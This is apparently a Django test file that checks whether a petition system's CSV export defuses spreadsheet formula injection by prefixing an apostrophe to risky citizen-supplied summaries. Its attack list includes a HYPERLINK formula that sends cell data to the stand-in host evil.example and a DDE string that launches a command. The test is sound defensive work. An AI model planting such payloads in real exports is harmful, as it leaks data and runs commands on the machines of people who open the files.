"""The CSV export of matters writes a citizen's text as text (OWASP, CSV injection)."""

import csv
import io

from django.urls import reverse

from xinfang.core.exports import FORMULA_START

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
]


def test_a_summary_starting_with_a_formula_is_text_in_the_csv(client, people, register, travel):
    travel("2026-11-02")
    for summary in ATTACKS:
        register(summary=summary)
    register(summary="拖欠工资 = 三个月")  # an "=" inside the text is left alone

    client.force_login(people["dispatcher"])
    body = client.get(reverse("api-petitions-export")).content.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(body)))
    fields = [f for row in rows for f in row]
    assert [f for f in fields if f.startswith(FORMULA_START)] == []
    summaries = {row[-1] for row in rows[1:]}
    assert summaries == {"'" + s for s in ATTACKS} | {"拖欠工资 = 三个月"}
